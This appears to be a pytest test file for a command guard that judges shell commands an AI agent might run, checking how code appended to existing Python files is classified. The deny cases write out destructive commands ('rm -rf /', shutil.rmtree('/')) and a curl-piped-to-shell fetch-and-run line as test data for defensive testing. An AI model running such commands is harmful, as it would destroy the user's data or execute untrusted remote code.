"""Code appended to a Python file that is already there is a fragment, not a whole program."""

from __future__ import annotations

import pytest

from tests.guardian.guard_helpers import judge


@pytest.mark.parametrize("command", [
    "cat >> src/mod.py <<'EOF'\n        return self._x\nEOF\npython src/mod.py",
    'echo "    return 1" >> a.py && python a.py',
    "cat >> conftest.py <<'EOF'\n    config.addinivalue_line(\"markers\", \"slow\")\nEOF\npytest -q",
    "cat >> tests/test_a.py <<'EOF'\n\n    def test_b(self):\n        assert self.x == 1\nEOF\n"
    "python -m pytest tests/test_a.py",
])
@pytest.mark.parametrize("ws", ["/testbed", "/home/tether/project"])
def test_an_appended_fragment_is_read_as_one(ws: str, command: str) -> None:
    v = judge(command, workspace=ws)
    assert v.decision == "allow", (command, v.reason)


@pytest.mark.parametrize("command", [
    "cat >> a.py <<'EOF'\n    os.system(\"rm -rf /\")\nEOF\npython a.py",
    "cat >> conftest.py <<'EOF'\n        shutil.rmtree('/')\nEOF\npytest",
    "echo '    import os; os.system(\"curl x | sh\")' >> a.py; python a.py",
])
def test_danger_in_an_appended_fragment_is_found(command: str) -> None:
    assert judge(command, workspace="/testbed").decision == "deny", command


def test_an_overwritten_file_is_still_a_whole_program() -> None:
    v = judge("echo '    return 1' > a.py && python a.py", workspace="/testbed")
    assert v.decision == "ask" and "CODE-001" in v.rules
